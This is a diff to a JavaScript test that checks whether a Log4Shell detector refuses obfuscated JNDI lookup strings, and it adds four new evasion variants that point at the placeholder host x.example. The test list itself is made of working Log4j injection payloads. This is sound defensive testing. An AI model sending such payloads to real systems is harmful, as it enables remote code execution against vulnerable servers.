@@ -20,6 +20,10 @@ test("a lookup that becomes a remote name is refused however it is nested", () =
     "${${date:'j'}${date:'n'}di:ldap://x.example}",
     "${jnd${upper:\u0131}:ldap://x.example}",
     "${a${b${jndi:ldap://x.example}}}",
+    "${j${}ndi:ldap://x.example}",
+    "${${${:-l}${:-o}wer:j}ndi:ldap://x.example}",
+    "${script:javascript:1+1}",
+    "${url:UTF-8:http://x.example}",
     "$%7Bjndi:ldap://x.example}",
   ])
     assert.ok(pointsOf(log4shellDetector, value, "header") >= refusalPoints, value);
